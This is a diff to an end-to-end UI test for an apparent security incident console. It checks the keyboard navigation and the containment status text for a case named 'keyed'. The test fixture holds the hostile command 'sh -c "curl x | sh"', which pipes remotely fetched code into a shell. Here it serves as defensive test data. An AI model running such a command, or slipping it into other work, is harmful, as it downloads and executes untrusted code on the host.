@@ -8,7 +8,9 @@ export function testReading(at: ConsoleStack): void {
   it('shows the story and plays it to its end by keyboard alone', async () => {
     await containReported(at.e2e, 'keyed', 'sh -c "curl x | sh"');
     await endAlarm(at.e2e, 'keyed');
-    const page = await at.open('?show=Contained');
+    const page = await at.open('');
+    await page.getByRole('heading', { name: 'Needs somebody' }).waitFor();
+    await page.keyboard.press('3');
     await page.locator('a.thing', { hasText: 'keyed' }).waitFor();
     await page
       .getByRole('status')
@@ -18,11 +20,21 @@ export function testReading(at: ConsoleStack): void {
     await page.keyboard.press('?');
     await page.getByRole('dialog').getByText('Next case').waitFor();
     await page.keyboard.press('Escape');
+    await page.keyboard.press('1');
+    await page.getByRole('heading', { name: 'Needs somebody' }).waitFor();
+    await page.keyboard.press('/');
+    await page.keyboard.type('keyed');
+    await page.keyboard.press('Enter');
+    await page.getByRole('link', { name: 'Open the thing keyed' }).waitFor();
+    await page.getByRole('main').getByRole('link', { name: 'Contained', exact: true }).click();
+    await page.locator('a.thing', { hasText: 'keyed' }).waitFor();
     await page.keyboard.press('j');
     await page.keyboard.press('Enter');
     await page.getByRole('heading', { name: 'keyed' }).waitFor();
     const story = page.getByRole('status');
-    await story.getByText('It is contained, and the denial is verified').waitFor();
+    await story
+      .getByText('It is contained by disconnect and quarantine, and the denial is verified')
+      .waitFor();
     await page.getByText('sh -c "curl x | sh"').waitFor();
     await page.locator('.chart canvas').waitFor();
     await page.keyboard.press('i');
